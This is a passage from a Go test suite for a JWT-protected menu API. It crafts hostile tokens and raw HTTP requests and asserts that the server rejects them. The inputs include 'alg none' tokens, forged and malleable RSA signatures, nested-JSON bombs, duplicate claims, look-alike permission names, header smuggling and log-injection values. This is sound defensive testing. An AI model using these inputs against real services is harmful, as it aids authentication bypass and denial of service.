			attack{claim + " the largest int64", m.literal(claim, "9223372036854775807"), badToken},
			attack{claim + " past it", m.literal(claim, "18446744073709551616"), badToken},
			attack{claim + " an array", m.with(claim, []int{0}), badToken},
			attack{claim + " true", m.with(claim, true), badToken},
		)
	}
	return attacks
}

func duplicates(m mint) (attacks []attack) {
	for _, member := range []string{
		`"iss":"https://evil.example/"`, `"aud":"x"`, `"exp":1`, `"nbf":0`, `"sub":"root"`, `"permissions":[]`, `"permissions":["create:items"]`,
		`"\u0069ss":"https://tenant.example.com/"`, `"azp":"a-client"`,
	} {
		if strings.Contains(member, "nbf") {
			member += "," + member
		}
		attacks = append(attacks, attack{member, m.and(member), badForm})
	}
	return append(attacks,
		attack{"nested", m.and(`"x":{"a":1,"a":2}`), badForm},
		attack{"nested in an array", m.and(`"x":[{"a":1,"a":1}]`), badForm},
		attack{"nested in the header", m.header(`{"alg":"RS256","kid":"KID","x":{"a":1,"a":2}}`), badForm},
		attack{"the empty name", m.and(`"":1,"":2`), badForm},
		attack{"names that differ in case are two", m.and(`"Exp":1,"ISS":"x","Permissions":[]`), admitted},
	)
}

func bombs(m mint) []attack {
	nest := func(open, shut string, n int) string { return strings.Repeat(open, n) + strings.Repeat(shut, n) }
	header := func(value string) string { return `{"alg":"RS256","kid":"KID","x":` + value + `}` }
	forged := func(header, payload string) string { return forgerKey().Sign(m.tb, m.named(header), payload) }
	var names strings.Builder
	for i := range 1000 {
		_, _ = fmt.Fprintf(&names, `,"n%d":0`, i)
	}
	return []attack{
		{"arrays in the header", forged(header(nest("[", "]", 5000)), m.claims), badToken},
		{"objects in the header", forged(header(strings.Repeat(`{"a":`, 1900)+"0"+strings.Repeat("}", 1900)), m.claims), badToken},
		{"arrays in the header, never closed", forged(header(strings.Repeat("[", 11_000)), m.claims), badForm},
		{"nothing but brackets in the header", forged(strings.Repeat("[", 11_000), m.claims), badForm},
		{"arrays in the payload", forged(header("0"), `{"x":`+nest("[", "]", 5000)+`}`), badToken},
		{"objects in the payload", forged(header("0"), `{"x":`+strings.Repeat(`{"a":`, 1900)+"0"+strings.Repeat("}", 1900)+`}`), badToken},
		{"arrays in the payload, never closed", forged(header("0"), strings.Repeat("[", 11_000)), badForm},
		{"objects in the payload, never closed", forged(header("0"), strings.Repeat(`{"":`, 2_500)), badForm},
		{"a string never closed", forged(header("0"), `{"a":"`+strings.Repeat(`\u0041`, 1_800)), badForm},
		{"a thousand names", forged(header("0"), `{"a":0`+names.String()+`}`), badToken},
		{"a thousand names in the header", forged(header("0"+names.String()), m.claims), badToken},
		{"jwk of arrays", forged(header(`0,"jwk":`+nest("[", "]", 4000)), m.claims), badToken},
		{"jwk of objects", forged(header(`0,"jwk":`+strings.Repeat(`{"jwk":`, 1400)+"0"+strings.Repeat("}", 1400)), m.claims), badToken},
		// Those of the issuer's own tell the server nothing new: legal JSON, and as long as a token may be.
		{"aud of arrays, signed", m.literal("aud", nest("[", "]", 4500)), badToken},
		{"sub of arrays, signed", m.literal("sub", nest("[", "]", 4500)), badToken},
		{"exp of arrays, signed", m.literal("exp", nest("[", "]", 4500)), badToken},
		{"permissions of arrays, signed", m.literal("permissions", nest("[", "]", 4500)), powerless},
		{"arrays in a claim of no interest, signed", m.and(`"x":` + nest("[", "]", 4500)), admitted},
		{"arrays in a header of no interest, signed", m.header(header(nest("[", "]", 4500))), admitted},
	}
}

func encodings(m mint) (attacks []attack) {
	last := func(segment string) string { // the same bytes in a decoder that does not look at the unused bits
		const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
		return segment[:len(segment)-1] + string(alphabet[strings.IndexByte(alphabet, segment[len(segment)-1])^1])
	}
	for i, segment := range []string{"header", "payload", "signature"} {
		change := func(to string) string {
			parts := append([]string(nil), m.parts...)
			parts[i] = to
			return strings.Join(parts, ".")
		}
		part := m.parts[i]
		for name, to := range map[string]string{
			"padding": part + "=", "two of padding": part + "==", "a space inside": part[:9] + " " + part[9:], "a space before": " " + part + "x",
			"a tab inside": part[:9] + "\t" + part[9:], "percent-encoded line break": part[:9] + "%0A" + part[9:], "plus": part[:9] + "+" + part[10:],
			"slash": part[:9] + "/" + part[10:], "empty": "", "one character": "A", "a quote": part + `"`, "non-ASCII": part[:9] + "é" + part[9:],
			"full-width": part[:9] + "Ａ" + part[10:], "a length that cannot be": part + strings.Repeat("A", (5-len(part)%4)%4),
		} {
			if name == "a space before" && i == 0 {
				continue // is between the scheme and the token, where HTTP allows several
			}
			attacks = append(attacks, attack{segment + ", " + name, change(to), badForm})
		}
		if len(part)%4 != 0 {
			attacks = append(attacks, attack{segment + ", unused bits", change(last(part)), badForm})
		}
	}
	return attacks
}

func serialisations(m mint) []attack {
	h, p, s := m.parts[0], m.parts[1], m.parts[2]
	general := fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, p, h, s)
	flattened := fmt.Sprintf(`{"payload":%q,"protected":%q,"signature":%q}`, p, h, s)
	return []attack{
		{"no dot", h + p + s, badForm},
		{"one dot", h + "." + p, badForm},
		{"two dots alone", "..", badForm},
		{"three dots", m.good + ".", badForm},
		{"a dot before", "." + m.good, badForm},
		{"two dots in a row", h + ".." + p + "." + s, badForm},
		{"four dots", m.good + ".AAAA.AAAA", badForm},
		{"four dots alone", "....", badForm},
		{"10,000 dots", strings.Repeat(".", 10_000), badForm},
		{"10,000 dots after it", m.good + strings.Repeat(".", 10_000), badForm},
		{"dots percent-encoded", strings.ReplaceAll(m.good, ".", "%2E"), badForm},
		{"detached payload", h + ".." + s, badForm},
		{"JWE", m.jwe(), badForm},
		{"JWE header in three segments", authztest.Encode(m.named(`{"alg":"RSA-OAEP","enc":"A128GCM","kid":"KID"}`)) + "." + p + "." + s, badToken},
		{"JWS as JSON, general", general, badForm},
		{"JWS as JSON, flattened", flattened, badForm},
		{"JWS as JSON with two dots", strings.Replace(flattened, "{", `{"a.b.c":1,`, 1), badForm},
		{"JWS as JSON in base64", authztest.Encode(flattened), badForm},
		{"JWS as JSON as the header", authztest.Encode(general) + "." + p + "." + s, badToken},
		{"a token in a token", m.key.Sign(m.tb, m.named(`{"alg":"RS256","kid":"KID","cty":"JWT"}`), m.good), badForm},
		{"twice in a row", m.good + m.good, badForm},
		{"in quotes", `"` + m.good + `"`, badForm},
		{"20 KiB", h + "." + strings.Repeat("A", 20<<10) + "." + s, badForm},
		{"60 KiB", h + "." + strings.Repeat("A", 60<<10) + "." + s, badForm},
	}
}

// jwe encrypts the good token to the issuer's key.
func (m mint) jwe() string {
	m.tb.Helper()
	options := new(jose.EncrypterOptions).WithContentType("JWT")
	encrypter, err := jose.NewEncrypter(jose.A128GCM, jose.Recipient{Algorithm: jose.RSA_OAEP, Key: &m.key.Private.PublicKey, KeyID: m.key.ID}, options)
	if err != nil {
		m.tb.Fatal(err)
	}
	object, err := encrypter.Encrypt([]byte(m.good))
	if err != nil {
		m.tb.Fatal(err)
	}
	token, err := object.CompactSerialize()
	if err != nil {
		m.tb.Fatal(err)
	}
	return token
}

func signatures(m mint) []attack {
	good := m.signature()
	h, p, s := m.parts[0], m.parts[1], m.parts[2]
	flip := func(i int) []byte {
		changed := append([]byte(nil), good...)
		changed[i] ^= 1
		return changed
	}
	modulus := m.key.Private.N
	malleable := new(big.Int).Add(new(big.Int).SetBytes(good), modulus).Bytes() // the same number modulo n
	negative := new(big.Int).Sub(modulus, new(big.Int).SetBytes(good)).FillBytes(make([]byte, len(good)))
	digest := sha256.Sum256([]byte(h + "." + p))
	padded := append(append([]byte{0, 1}, []byte(strings.Repeat("\xff", 202))...), 0)
	padded = append(append(padded, 0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20), digest[:]...)
	other := strings.Split(m.with("sub", "auth0|another"), ".")
	reencoded := authztest.Encode(strings.Replace(m.issuer.Header(), ",", ", ", 1))
	return []attack{
		{"a byte short", m.signed(good[:len(good)-1]), badToken},
		{"a byte short in front", m.signed(good[1:]), badToken},
		{"a byte longer", m.signed(append(append([]byte(nil), good...), 0)), badToken},
		{"a zero in front", m.signed(append([]byte{0}, good...)), badToken},
		{"twice", m.signed(append(append([]byte(nil), good...), good...)), badToken},
		{"empty", h + "." + p + ".", badForm},
		{"of one byte", m.signed([]byte{0}), badToken},
		{"of zeros", m.signed(make([]byte, len(good))), badToken},
		{"one", m.signed(append(make([]byte, len(good)-1), 1)), badToken},
		{"all ones", m.signed([]byte(strings.Repeat("\xff", len(good)))), badToken},
		{"the modulus", m.signed(modulus.Bytes()), badToken},
		{"plus the modulus", m.signed(malleable), badToken},
		{"negated", m.signed(negative), badToken},
		{"the padded digest itself", m.signed(padded), badToken},
		{"the digest", m.signed(digest[:]), badToken},
		{"first bit", m.signed(flip(0)), badToken},
		{"last bit", m.signed(flip(len(good) - 1)), badToken},
		{"reversed", m.signed(reversed(good)), badToken},
		{"of another token", h + "." + p + "." + other[2], badToken},
		{"claims of another token", h + "." + other[1] + "." + s, badToken},
		{"a re-encoded header", reencoded + "." + p + "." + s, badToken},
		{"a re-encoded payload", h + "." + authztest.Encode(strings.Replace(m.claims, ",", ", ", 1)) + "." + s, badToken},
		{"of the payload alone", m.signed(m.over(p)), badToken},
		{"of header and payload without their dot", m.signed(m.over(h + p)), badToken},
		{"of what is not encoded", m.signed(m.over(m.issuer.Header() + "." + m.claims)), badToken},
		{"in hexadecimal", m.signed([]byte(fmt.Sprintf("%x", good))), badToken},
		{"another one of the issuer's", m.signed(m.over(h + "." + p)), admitted},
	}
}

func (m mint) over(input string) []byte {
	digest := sha256.Sum256([]byte(input))
	return m.must(rsa.SignPKCS1v15(rand.Reader, m.key.Private, crypto.SHA256, digest[:]))
}

func reversed(b []byte) []byte {
	r := make([]byte, len(b))
	for i, c := range b {
		r[len(b)-1-i] = c
	}
	return r
}

// texts are signed by the issuer, so that only the reading of the JSON stands between them and the menu.
func texts(m mint) []attack {
	wide := func(s string) string {
		var b strings.Builder
		for _, unit := range utf16.Encode([]rune(s)) {
			b.Write([]byte{byte(unit), byte(unit >> 8)})
		}
		return b.String()
	}
	header := m.issuer.Header()
	return []attack{
		{"header with a BOM", m.header("\ufeff" + header), badForm},
		{"header in UTF-16", m.header(wide(header)), badForm},
		{"header in UTF-16 with a BOM", m.header(wide("\ufeff" + header)), badForm},
		{"header with a trailer", m.header(header + "{}"), badForm},
		{"header with NUL after it", m.header(header + "\x00"), badForm},
		{"header an array", m.header("[" + header + "]"), badForm},
		{"header a string", m.header(`"` + header + `"`), badForm},
		{"header null", m.header("null"), badToken},
		{"header empty object", m.header("{}"), badToken},
		{"header not JSON", m.header("alg=RS256"), badForm},
		{"header with a comment", m.header(strings.Replace(header, "{", "{/**/", 1)), badForm},
		{"header in single quotes", m.header(strings.ReplaceAll(header, `"`, `'`)), badForm},
		{"header with a comma at the end", m.header(strings.Replace(header, "}", ",}", 1)), badForm},
		{"header with invalid UTF-8", m.header(strings.Replace(header, "{", "{\"x\":\"\xc0\xaf\",", 1)), badForm},
		{"header of one byte", m.header("{"), badForm},
		{"payload with a BOM", m.payload("\ufeff" + m.claims), badForm},
		{"payload in UTF-16", m.payload(wide(m.claims)), badForm},
		{"payload with a trailer", m.payload(m.claims + m.claims), badForm},
		{"payload with NUL after it", m.payload(m.claims + "\x00"), badForm},
		{"payload an array", m.payload("[" + m.claims + "]"), badForm},
		{"payload null", m.payload("null"), badToken},
		{"payload a number", m.payload("1"), badForm},
		{"payload empty object", m.payload("{}"), badToken},
		{"payload with overlong UTF-8", m.and("\"x\":\"\xc0\xae\""), badForm},
		{"payload with half a surrogate", m.and(`"x":"\udfff"`), badForm},
		{"payload with a raw line break in a string", m.and("\"x\":\"\n\""), badForm},
		{"payload with __proto__", m.and(`"__proto__":{"permissions":["create:items"]},"constructor":1`), admitted},
		{"sub a number", m.with("sub", 1), badToken},
		{"sub an object", m.with("sub", map[string]string{"x": "y"}), badToken},
		{"sub with line breaks", m.with("sub", "x\n{\"level\":\"ERROR\"}\r\n"), admitted},
		{"whitespace around header and payload", m.key.Sign(m.tb, " \r\n"+header+"\t", "\n"+m.claims+" "), admitted},
	}
}

func permissionForms(m mint) (attacks []attack) {
	const hold = items.CreateItems
	for name, value := range map[string]any{
		"missing":                           nil,
		"null":                              json.RawMessage("null"),
		"empty":                             []string{},
		"a string":                          hold,
		"a number":                          1,
		"true":                              true,
		"an object":                         map[string]any{hold: true},
		"an object like an array":           map[string]any{"0": hold, "length": 1},
		"nested":                            [][]string{{hold}},
		"objects":                           []any{map[string]string{"permission_name": hold}},
		"a superset name":                   []string{hold + "2"},
		"a prefix":                          []string{hold[:len(hold)-1]},
		"another one":                       []string{items.UpdateItems, items.DeleteItems},
		"wildcard":                          []string{"*", "create:*", "*:items", "admin"},
		"upper case":                        []string{strings.ToUpper(hold)},
		"other case":                        []string{"Create:Items"},
		"a space after it":                  []string{hold + " "},
		"a space before it":                 []string{" " + hold},
		"NUL after it":                      []string{hold + "\x00"},
		"a line break after it":             []string{hold + "\n"},
		"comma-joined":                      []string{hold + "," + items.UpdateItems},
		"joined by a space":                 []string{items.UpdateItems + " " + hold},
		"Cyrillic look-alike":               []string{strings.Replace(hold, "e", "е", 1)},
		"zero-width space":                  []string{"create\u200b:items"},
		"null entries":                      []any{nil, hold},
		"numbers":                           []any{hold, 1},
		"booleans":                          []any{true, hold},
		"JSON in a string":                  []string{`["create:items"]`},
		"empty string":                      []string{""},
		"percent-encoded":                   []string{"create%3Aitems"},
		"a combining character":             []string{hold + "\u0301"},
		"escaped twice":                     []string{`\u0063reate:items`},
		"a negated one":                     []string{"!" + hold, "-" + hold},
		"an array in an object in an array": []any{map[string]any{"permissions": []string{hold}}},
	} {
		attacks = append(attacks, attack{name, m.with("permissions", value), powerless})
	}
	// As many as a token of 16 KiB has room for. 10,000 entries have none.
	return append(attacks,
		attack{"its name in upper case", m.payload(strings.Replace(m.claims, `"permissions"`, `"Permissions"`, 1)), powerless},
		attack{"escaped is the same", m.literal("permissions", `["\u0063reate:items"]`), admitted},
		attack{"twice the same", m.with("permissions", []string{hold, hold}), admitted},
		attack{"3,000 entries", m.with("permissions", append(strings.Split(strings.Repeat("p ", 2_800), " "), hold)), admitted},
		attack{"10,000 entries", m.with("permissions", append(strings.Split(strings.Repeat("p ", 10_000), " "), hold)), badForm},
	)
}

// notPermissions grant nothing: on a tenant without RBAC anyone is granted the scope that they ask for.
func notPermissions(m mint) (attacks []attack) {
	for name, claims := range map[string]map[string]any{
		"scope":                          {"scope": items.CreateItems},
		"scope among others":             {"scope": "openid " + items.CreateItems + " profile"},
		"scope an array":                 {"scope": items.Permissions()},
		"scp":                            {"scp": items.Permissions()},
		"scopes":                         {"scopes": items.Permissions()},
		"roles":                          {"roles": append(items.Permissions(), "admin")},
		"groups":                         {"groups": items.Permissions()},
		"permission":                     {"permission": items.CreateItems},
		"authorities":                    {"authorities": items.Permissions()},
		"namespaced":                     {"https://menu.example.com/permissions": items.Permissions()},
		"namespaced by the issuer":       {tenant + "permissions": items.Permissions()},
		"nested in another claim":        {"realm_access": map[string]any{"permissions": items.Permissions()}},
		"a name with a space":            {"permissions ": items.Permissions()},
		"a name with NUL":                {"permissions\x00": items.Permissions()},
		"a name with a dot":              {"claims.permissions": items.Permissions()},
		"admin true":                     {"admin": true},
		"sub with the permission's name": {"sub": items.CreateItems},
	} {
		claims["permissions"] = nil
		attacks = append(attacks, attack{name, m.issuer.TokenWith(m.tb, nil, claims), powerless})
	}
	return attacks
}

// TestTokensInOtherPlaces sends a valid token where it does not belong, and by hand what a client library would not send.
func TestTokensInOtherPlaces(t *testing.T) {
	t.Parallel()
	a := attackedTenant(t)
	m := newMint(t, a.issuer)
	good := m.good
	before := a.do("GET", "/items", "").body
	// net/http answers what is not HTTP itself, before there is a request: in plain text, and it closes the connection.
	notHTTP, tooLong := verdict{status: 400}, verdict{status: 431}
	tests := []struct {
		name, path, head string
		want             verdict
	}{
		{"in its place", "/items", "Authorization: Bearer " + good, admitted},
		{"scheme in lower case", "/items", "authorization: bearer " + good, admitted},
		{"several spaces", "/items", "Authorization: Bearer   " + good, admitted},
		{"spaces around the value", "/items", "Authorization: \t Bearer " + good + " \t ", admitted},
		{"folded between scheme and token", "/items", "Authorization: Bearer\r\n " + good, admitted}, // RFC 9112 section 5.2: a space

		{"nowhere", "/items", "X-Nothing: x", noToken},
		{"query access_token", "/items?access_token=" + good, "X-Nothing: x", noToken},
		{"query token", "/items?token=" + good + "&authorization=Bearer%20" + good, "X-Nothing: x", noToken},
		{"cookie", "/items", "Cookie: access_token=" + good + "; Authorization=Bearer " + good + "; token=" + good, noToken},
		{"form field", "/items", "X-Form: 1", noToken},
		{"X-Access-Token", "/items", "X-Access-Token: " + good + "\r\nX-Auth-Token: " + good + "\r\nX-Api-Key: " + good, noToken},
		{"X-Authorization", "/items", "X-Authorization: Bearer " + good, noToken},
		{"X-Forwarded-Authorization", "/items", "X-Forwarded-Authorization: Bearer " + good + "\r\nX-Forwarded-Access-Token: " + good, noToken},
		{"Proxy-Authorization", "/items", "Proxy-Authorization: Bearer " + good, noToken},
		{"WWW-Authenticate", "/items", "WWW-Authenticate: Bearer " + good, noToken},
		{"Authorization_", "/items", "Authorization_: Bearer " + good, noToken},
		{"Sec-WebSocket-Protocol", "/items", "Sec-WebSocket-Protocol: bearer, " + good, noToken},
		{"X-User and friends", "/items", "X-User: admin\r\nX-Remote-User: admin\r\nX-Forwarded-User: admin\r\nX-Original-URL: /items", noToken},
		{"Basic with the token as password", "/items", "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("x:"+good)), noToken},
		{"DPoP", "/items", "Authorization: DPoP " + good, noToken},
		{"Token", "/items", "Authorization: Token " + good, noToken},
		{"JWT", "/items", "Authorization: JWT " + good, noToken},
		{"no scheme", "/items", "Authorization: " + good, noToken},
		{"an empty value", "/items", "Authorization:", noToken},
		{"a scheme alone", "/items", "Authorization: Bearer", noToken},
		{"a scheme and spaces", "/items", "Authorization: Bearer    ", noToken},
		{"a colon after the scheme", "/items", "Authorization: Bearer: " + good, noToken},
		{"two schemes", "/items", "Authorization: Basic Bearer " + good, noToken},
		{"a tab instead of the space", "/items", "Authorization: Bearer\t" + good, noToken},
		{"a no-break space", "/items", "Authorization: Bearer\u00a0" + good, noToken},
		{"no space", "/items", "Authorization: Bearer" + good, noToken},
		{"a quoted scheme", "/items", `Authorization: "Bearer" ` + good, noToken},

		{"two headers, both good", "/items", "Authorization: Bearer " + good + "\r\nAuthorization: Bearer " + good, noToken},
		{"two headers, the good one first", "/items", "Authorization: Bearer " + good + "\r\nauthorization: Bearer x", noToken},
		{"two headers, the good one last", "/items", "Authorization: Basic eDp5\r\nAUTHORIZATION: Bearer " + good, noToken},
		{"two headers, one empty", "/items", "Authorization: Bearer " + good + "\r\nAuthorization:", noToken},
		{"in a trailer", "/items", "Trailer: Authorization", noToken},

		{"comma-joined, both good", "/items", "Authorization: Bearer " + good + ", Bearer " + good, badForm},
		{"comma-joined without spaces", "/items", "Authorization: Bearer " + good + ",Bearer " + good, badForm},
		{"a comma after it", "/items", "Authorization: Bearer " + good + ",", badForm},
		{"parameters after it", "/items", `Authorization: Bearer ` + good + `, realm="x"`, badForm},
		{"garbage after a space", "/items", "Authorization: Bearer " + good + " x", badForm},
		{"garbage after a tab", "/items", "Authorization: Bearer " + good + "\tx", badForm},
		{"a tab before the token", "/items", "Authorization: Bearer \t" + good, badForm},
		{"as a parameter", "/items", `Authorization: Bearer token="` + good + `"`, badForm},
		{"scheme twice", "/items", "Authorization: Bearer Bearer " + good, badForm},
		{"folded within a segment", "/items", "Authorization: Bearer " + good[:30] + "\r\n " + good[30:], badForm},
		{"folded at a dot", "/items", "Authorization: Bearer " + m.parts[0] + ".\r\n\t" + m.parts[1] + "." + m.parts[2], badForm},

		{"a line feed within a segment", "/items", "Authorization: Bearer " + good[:30] + "\n" + good[30:], notHTTP},
		{"a carriage return within a segment", "/items", "Authorization: Bearer " + good[:30] + "\r" + good[30:], notHTTP},
		{"NUL within a segment", "/items", "Authorization: Bearer " + good[:30] + "\x00" + good[30:], notHTTP},
		{"NUL after it", "/items", "Authorization: Bearer " + good + "\x00", notHTTP},
		{"a space before the colon", "/items", "Authorization : Bearer " + good, notHTTP},
		{"a name with NUL", "/items", "Authorization\x00: Bearer " + good, notHTTP},

		{"a kid of 64 KiB", "/items", "Authorization: Bearer " + m.header(`{"alg":"RS256","kid":"`+strings.Repeat("k", 64<<10)+`"}`), tooLong},
		{"100,000 dots", "/items", "Authorization: Bearer " + strings.Repeat(".", 100_000), tooLong},
		{"a token of 1 MiB", "/items", "Authorization: Bearer " + m.parts[0] + "." + strings.Repeat("A", 1<<20) + "." + m.parts[2], tooLong},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			r := a.byHand(t, test.path, test.head, good)
			if test.want != notHTTP && test.want != tooLong {
				a.judge(t, test.want, r)
				return
			}
			r.assertStatus(t, test.want.status)
			assertHeader(t, r, "Content-Type", "text/plain; charset=utf-8")
			assertHeader(t, r, "WWW-Authenticate", "")
			if strings.Contains(r.body, m.parts[2][:20]) || len(r.body) > 100 {
				t.Errorf("got %q, want the status alone", r.body)
			}
		})
	}
	a.assertLogWithout(t, good)
	a.assertUntouched(t, before)
	t.Logf("%d requests", len(tests))
}

// byHand sends a POST whose headers are given as they are, and returns the answer. With a header Trailer the token comes
// after the body, with X-Form it is in the body.
func (a *api) byHand(tb testing.TB, path, head, token string) answer {
	tb.Helper()
	body := fmt.Sprintf("Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(soup), soup)
	if strings.HasPrefix(head, "Trailer:") {
		body = fmt.Sprintf("Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\nAuthorization: Bearer %s\r\n\r\n", len(soup), soup, token)
	}
	if strings.HasPrefix(head, "X-Form:") {
		form := "access_token=" + token
		body = fmt.Sprintf("Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", len(form), form)
	}
	conn := mustDial(tb, a.url)
	// The server may answer and hang up before it has read all: what the write says does not matter.
	go func() {
		_, _ = io.WriteString(conn, "POST "+path+" HTTP/1.1\r\nHost: menu.example.com\r\n"+head+"\r\n"+body)
	}()
	return mustAnswer(tb, conn)
}

// TestEveryWriteIsGuarded tries one token of each kind on every route that changes the menu.
func TestEveryWriteIsGuarded(t *testing.T) {
	t.Parallel()
	a := attackedTenant(t)
	m := newMint(t, a.issuer)
	before := a.do("GET", "/items", "").body
	attacks := []attack{
		{"none", authztest.Encode(`{"alg":"none"}`) + "." + m.parts[1] + ".", badForm},
		{"forged", forgerKey().Sign(t, a.issuer.Header(), m.claims), badToken},
		{"expired", m.with("exp", 1), tooOld},
		{"powerless", a.issuer.Token(t, "read:items"), verdict{status: 403}},
	}
	routes := []struct{ method, path, permission string }{
		{"POST", "/items", items.CreateItems},
		{"PUT", "/items", items.UpdateItems},
		{"PUT", "/items/1", items.UpdateItems},
		{"PATCH", "/items/1", items.UpdateItems},
		{"DELETE", "/items/1", items.DeleteItems},
		{"DELETE", "/items/1/", items.DeleteItems},
		{"POST", "/items/1/restore", items.CreateItems},
		{"POST", "/api/menu/items", items.CreateItems},
		{"PUT", "/api/menu/items/1", items.UpdateItems},
		{"PATCH", "/api/menu/items/1", items.UpdateItems},
		{"DELETE", "/api/menu/items/1", items.DeleteItems},
		{"DELETE", "/api/menu/items", items.CreateItems}, // and the others
		{"POST", "/api/menu/reset", items.CreateItems},
	}
	for _, route := range routes {
		for _, attack := range attacks {
			t.Run(route.method+" "+route.path+" "+attack.name, func(t *testing.T) {
				want := attack.want
				if want.status == 403 {
					want.challenge = `Bearer realm="menu-api", error="insufficient_scope", scope="` + route.permission + `"`
				}
				a.judge(t, want, a.do(route.method, route.path, `{"item":{"id":1,"name":"Hacked","price":0,"description":"","image":""}}`, "Authorization", "Bearer "+attack.token))
			})
		}
	}
	a.assertUntouched(t, before)
	t.Logf("%d requests", len(routes)*len(attacks))
}

// TestLogIsNotTheAttackers: the library quotes header members that it cannot read, before it checks the signature. Anyone
// could write kilobytes of their choice into the log with each request.
func TestLogIsNotTheAttackers(t *testing.T) {
	t.Parallel()
	a := attackedTenant(t)
	m := newMint(t, a.issuer)
	text := strings.Repeat("attacker's text ", 600)
	headers := map[string]string{
		"jwk":             `{"alg":"RS256","kid":"KID","jwk":"` + text + `"}`,
		"jwk of a kind":   `{"alg":"RS256","kid":"KID","jwk":{"kty":"` + text + `"}}`,
		"x5c":             `{"alg":"RS256","kid":"KID","x5c":["` + text + `"]}`,
		"nonce":           `{"alg":"RS256","kid":"KID","nonce":["` + text + `"]}`,
		"an extra header": `{"alg":"RS256","kid":"KID","x":"` + text + `"}`,
		"kid":             `{"alg":"RS256","kid":"` + text + `"}`,
		"alg":             `{"alg":"` + text + `","kid":"KID"}`,
		"typ":             `{"alg":"RS256","kid":"KID","typ":"` + text + `"}`,
	}
	for name, header := range headers {
		t.Run(name, func(t *testing.T) {
			a.judge(t, badToken, a.do("POST", "/items", soup, "Authorization", "Bearer "+forgerKey().Sign(t, m.named(header), m.claims)))
		})
	}
	for line := range strings.Lines(a.log.String()) {
		if len(line) > 1024 {
			t.Errorf("a line of %d bytes is in the log: %.200s", len(line), line)
		}
	}
	t.Logf("%d tokens", len(headers))
}
